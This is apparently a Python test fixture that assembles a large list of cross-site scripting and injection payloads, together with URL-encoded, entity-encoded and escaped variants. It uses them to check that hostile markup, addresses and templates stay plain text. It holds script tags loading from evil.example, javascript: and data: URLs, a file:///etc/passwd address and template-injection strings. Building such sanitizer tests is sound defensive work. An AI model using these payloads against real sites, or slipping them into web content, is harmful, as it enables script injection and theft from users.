"""Hostile texts: markup, addresses and templates that must stay text wherever they are written.

After the OWASP XSS filter evasion sheet, the HTML5 security cheat sheet and the PortSwigger list; each
stands as it is and in the disguises that get past careless filters.
"""

from __future__ import annotations

from urllib.parse import quote

MARK = "window.pwned=1"
_TAGS = [
    "<script>{x}</script>", "<script src=//evil.example/x.js></script>", "<ScRiPt>{x}</sCrIpT>", "<script/x>{x}</script>", "<script\n>{x}</script\n>",
    "<img src=x onerror={x}>", "<img src=x onerror=\"{x}\">", "<img/src=x/onerror={x}>", "<img src=x:x onerror\n={x}>", "<image src=x onerror={x}>",
    "<svg onload={x}>", "<svg/onload={x}>", "<svg><script>{x}</script></svg>", "<svg><a xlink:href=javascript:{x}><text>x</text></a></svg>",
    "<svg><animate onbegin={x} attributeName=x dur=1s>", "<svg><set onbegin={x} attributeName=x>", "<svg><use href=data:image/svg+xml,x></use></svg>",
    "<svg><foreignObject><iframe src=javascript:{x}>", "<svg><style><img src=x onerror={x}></style></svg>",
    "<math><mi xlink:href=javascript:{x}>x</mi></math>", "<math><mtext><table><mglyph><style><img src=x onerror={x}>",
    "<body onload={x}>", "<body onpageshow={x}>", "<body onhashchange={x}>", "<body onfocus={x}>", "<frameset onload={x}>",
    "<iframe src=javascript:{x}>", "<iframe srcdoc='<script>parent.{x}</script>'>", "<iframe onload={x}>", "<iframe src=data:text/html,<script>{x}</script>>",
    "<object data=javascript:{x}>", "<object data=data:text/html,x>", "<embed src=javascript:{x}>", "<embed src=data:image/svg+xml,x>", "<applet code=x>",
    "<a href=javascript:{x}>x</a>", "<a href=' javascript:{x}'>x</a>", "<a href=java&#09;script:{x}>x</a>", "<a href=&#106;avascript:{x}>x</a>",
    "<a href='https://evil.example' target=_self onclick={x}>x</a>", "<area href=javascript:{x} shape=default>",
    "<form action=javascript:{x}><button>x</button></form>", "<form><button formaction=javascript:{x}>x</button></form>", "<input onfocus={x} autofocus>",
    "<input type=image src=x onerror={x}>", "<isindex type=image src=1 onerror={x}>", "<select onfocus={x} autofocus>", "<textarea onfocus={x} autofocus>",
    "<keygen onfocus={x} autofocus>", "<video src=x onerror={x}>", "<video><source onerror={x}></video>", "<video poster=javascript:{x}>", "<audio src=x onerror={x}>",
    "<audio onloadstart={x} src=x>", "<details open ontoggle={x}>", "<marquee onstart={x}>", "<marquee loop=1 onfinish={x}>x</marquee>", "<meter onmouseover={x}>0</meter>",
    "<div onmouseover={x}>x</div>", "<div onpointerenter={x}>x</div>", "<div style='animation:x' onanimationstart={x}>", "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationend={x}>",
    "<style>@import'//evil.example/x.css';</style>", "<style>*{{background:url(//evil.example)}}</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=x>",
    "<base href=//evil.example/>", "<base href=javascript:/x/>", "<meta http-equiv=refresh content='0;url=javascript:{x}'>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<meta http-equiv=Set-Cookie content=a=b>", "<template><img src=x onerror={x}></template>", "<noscript><p title='</noscript><img src=x onerror={x}>'>",
    "<xmp><p title='</xmp><img src=x onerror={x}>'>", "<plaintext>", "<!--<img src='--><img src=x onerror={x}//'>", "<![CDATA[<img src=x onerror={x}>]]>", "<?xml version='1.0'?><x onload={x}/>",
    "<x contenteditable onblur={x}>x</x>", "<x tabindex=1 onfocus={x} id=x>x", "<custom-tag onpointerover={x}>", "<relais-widget onclick={x}></relais-widget>", "<dialog open onclose={x}>x</dialog>",
    "<slot onslotchange={x}><b>x</b></slot>", "<portal src=javascript:{x}>", "<title></title><img src=x onerror={x}>", "</title><script>{x}</script>", "</textarea><img src=x onerror={x}>",
    "</script><script>{x}</script>", "</style><img src=x onerror={x}>", "\"><img src=x onerror={x}>", "'><img src=x onerror={x}>", "`><img src=x onerror={x}>", "--><img src=x onerror={x}>", "]]><img src=x onerror={x}>",
    "\" onmouseover=\"{x}", "' onfocus='{x}' autofocus='", "\" autofocus onfocus={x} x=\"", "<b \" onclick={x}>x</b>", "<<script>{x}//<</script>", "<img \"\"\"><script>{x}</script>\">", "<scr<script>ipt>{x}</scr</script>ipt>",
    "\u003cimg src=x onerror={x}\u003e", "\uff1cscript\uff1e{x}\uff1c/script\uff1e", "<img src=x onerror\u000b={x}>", "<img\u0000 src=x onerror={x}>",
]
_ADDRESSES = [
    "javascript:{x}", "JaVaScRiPt:{x}", "java\tscript:{x}", "java\nscript:{x}", "\u0001javascript:{x}", " javascript:{x}", "javascript\u00a0:{x}", "javascript&colon;{x}", "&#x6A;avascript:{x}",
    "javascript://https://a.example/%0a{x}", "https:javascript:{x}", "http://javascript:{x}", "data:text/html,<script>{x}</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload={x}>",
    "vbscript:{x}", "livescript:{x}", "mhtml:http://evil.example/x!x", "feed:javascript:{x}", "view-source:javascript:{x}", "jar:javascript:{x}!/", "blob:https://evil.example/x", "filesystem:https://evil.example/x",
    "file:///etc/passwd", "about:blank#{x}", "intent://x#Intent;scheme=javascript;end", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "https://a.example@evil.example/", "https://a.example\u202eelpmaxe.live//",
    "mailto:a@b.example?body=<script>{x}</script>", "mailto:javascript:{x}", "tel:javascript:{x}", "tel:0123<img src=x onerror={x}>", "ftp://evil.example/x", "ws://evil.example/", "chrome://settings", "res://x",
]
_TEMPLATES = [
    "{{{{constructor.constructor('{x}')()}}}}", "${{{x}}}", "<%= {x} %>", "#{{{x}}}", "{{% {x} %}}", "{{{{7*7}}}}", "[[${{{x}}}]]", "{{ref}}", "{{n}} {{name}} {{when}}", "__proto__", "constructor", "toString", "%s%n%x", "\\u003cscript\\u003e{x}",
    "*[x](javascript:{x})*", "[x](javascript:{x})", "[x]( javascript:{x})", "[x](JAVASCRIPT:{x})", "[x](data:text/html,{x})", "![x](javascript:{x})", "![x](x\"onerror={x})", "[x](https://a.example \"onclick={x}\")", "<https://a.example/\"onmouseover={x}>",
    "[x]: javascript:{x}\n[x]", "[x](faq:../../{x})", "[x](faq:\"onclick={x})", "**<img src=x onerror={x}>**", "`<img src=x onerror={x}>`", "| <b onclick={x}>x</b> | [x](javascript:{x}) |", "# <svg onload={x}>", "> <iframe src=javascript:{x}>",
]


def _forms() -> list[str]:
    plain = [form.format(x=MARK) for form in [*_TAGS, *_ADDRESSES, *_TEMPLATES]]
    disguised = [quote(text) for text in plain[:20]]
    disguised += ["".join(f"&#{ord(sign)};" for sign in text) for text in plain[:10]]
    disguised += [text.replace("<", "&lt;").replace(">", "&gt;") for text in plain[20:30]]
    disguised += [text.replace("<", "\\x3c") for text in plain[30:40]]
    return list(dict.fromkeys([*plain, *disguised]))


#: Every payload; none twice.
PAYLOADS = _forms()
